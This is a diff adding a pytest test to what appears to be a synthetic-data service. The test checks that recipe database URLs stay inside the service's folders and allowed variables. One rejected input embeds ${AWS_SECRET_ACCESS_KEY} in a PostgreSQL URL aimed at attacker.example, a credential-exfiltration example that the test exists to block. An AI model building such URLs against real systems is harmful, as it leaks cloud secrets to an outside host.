@@ -358,3 +358,22 @@ def test_files_into_postgresql_add_their_keys_after_the_rows(flights_pg: str, tm
     assert ddl["flights"]["foreign_keys"] == [(("carrier",), "airlines", ("carrier",)),
                                               (("tailnum",), "planes", ("tailnum",))]
     assert _dangling(flights_pg, "from_files") == {"flights.carrier": 0, "flights.tailnum": 0}
+
+
+def test_the_service_keeps_database_urls_inside_its_folders_and_variables(tmp_path: Path) -> None:
+    from synthforge.recipe import load_recipe
+    from synthforge.service.folders import Folders, PathRefused
+
+    folders = Folders(tmp_path / "recipes", tmp_path / "data", tmp_path / "recipes" / "out")
+
+    def check(source: dict[str, Any], output: dict[str, Any]) -> None:
+        folders.check_recipe(load_recipe(_recipe(folders.recipes, source, output)))
+
+    check({"database": "sqlite:///../data/real.db"}, {"database": "sqlite:///out/synthetic.db"})
+    check({"database": "postgresql://me:${SYNTHFORGE_DB_PASSWORD}@db/x"}, {})
+    with pytest.raises(PathRefused, match="outside the service's folders"):
+        check({"database": f"sqlite:///{tmp_path / 'elsewhere.db'}"}, {})
+    with pytest.raises(PathRefused, match="outside the service's folders"):
+        check({"database": "sqlite:///../data/real.db"}, {"database": "sqlite:///synthetic.db"})  # not in outputs
+    with pytest.raises(PathRefused, match="AWS_SECRET_ACCESS_KEY"):
+        check({"database": "postgresql://me:${AWS_SECRET_ACCESS_KEY}@attacker.example/x"}, {})
